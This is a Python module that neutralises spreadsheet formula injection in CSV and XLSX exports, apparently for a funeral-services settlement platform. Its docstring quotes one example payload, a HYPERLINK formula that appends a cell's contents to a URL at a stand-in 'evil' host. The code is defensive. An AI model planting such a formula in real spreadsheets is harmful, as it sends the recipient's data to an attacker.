"""Every CSV and XLSX file the platform writes goes through here (formula injection).

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some programs,
a tab or carriage return before one) as a formula: ``=HYPERLINK("http://evil/?"&A2, "查看")``
typed as a funeral home's name would run on the desk of whoever opens the settlement. ``safe_cell``
is the one rule: such a text cell gets a leading ``'`` (shown as text, the value unchanged to the
eye); numbers — Python numbers, or text that is exactly a decimal number such as ``-12.50`` — are
kept as they are so that sums still work.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_DECIMAL = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")
BOM = "\ufeff"


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet cell that cannot be a formula.

    Numbers, dates and ``None`` pass unchanged; any other value becomes text, prefixed with ``'``
    when it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return — unless the text
    is a plain decimal number.
    """
    if value is None or isinstance(value, bool | int | float | Decimal | dt.date | dt.time):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _DECIMAL.fullmatch(text):
        return "'" + text
    return text


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """Rows as CSV text with CRLF lines, every cell through ``safe_cell``."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow(safe_row(row))
    return out.getvalue()


def csv_bytes(rows: Iterable[Sequence[Any]]) -> bytes:
    """A whole CSV file: UTF-8 with a byte-order mark (Excel then reads the Chinese)."""
    return (BOM + csv_text(rows)).encode("utf-8")


def append_xlsx_row(sheet: Any, values: Iterable[Any]) -> None:
    """``sheet.append`` with every cell through ``safe_cell`` (openpyxl would otherwise store a
    text starting with ``=`` as a formula)."""
    sheet.append(safe_row(values))
